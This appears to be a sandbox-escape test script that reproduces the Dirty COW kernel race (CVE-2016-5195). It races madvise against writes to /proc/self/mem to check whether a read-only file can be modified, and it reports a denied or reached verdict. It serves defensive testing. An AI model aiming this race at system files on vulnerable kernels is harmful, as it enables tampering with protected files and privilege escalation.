# id: escape/187
# technique: writes to a private mapping while it is thrown away
# family: memory
# attacks: no-host-files
# context: job
# reaches: the interpreter's files in the page cache, for all runs
# expect: verdict denied
# must-not: a file changed that was opened for reading
# control: none: it gets through only on a kernel that has the fault, and outside it is the same
#   kernel
# needs: cgroup
# seen-in: CVE-2016-5195
import ctypes
import json
import mmap
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)


def say(reached, detail, absent=False):
    verdict = "REACHED" if reached else "DENIED"
    line = {"id": "escape/187", "verdict": verdict, "absent": absent, "detail": str(detail)[:300]}
    print(json.dumps(line), flush=True)


with open("cow", "w") as one:
    one.write("m" * 64)
source = os.open("cow", os.O_RDONLY)
room = mmap.mmap(source, 64, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
start = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, source, ctypes.c_long(0))
stop = False


def throw():
    while not stop:
        libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(4096), 4)


thread = threading.Thread(target=throw)
thread.start()
wrote = 0
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
    for _ in range(2000):
        wrote += os.pwrite(memory, b"X", start)
except OSError as error:
    wrote = error
stop = True
thread.join()
with open("cow") as one:
    text = one.read()
say("X" in text, "wrote %s, the file holds %s" % (wrote, text[:8]))
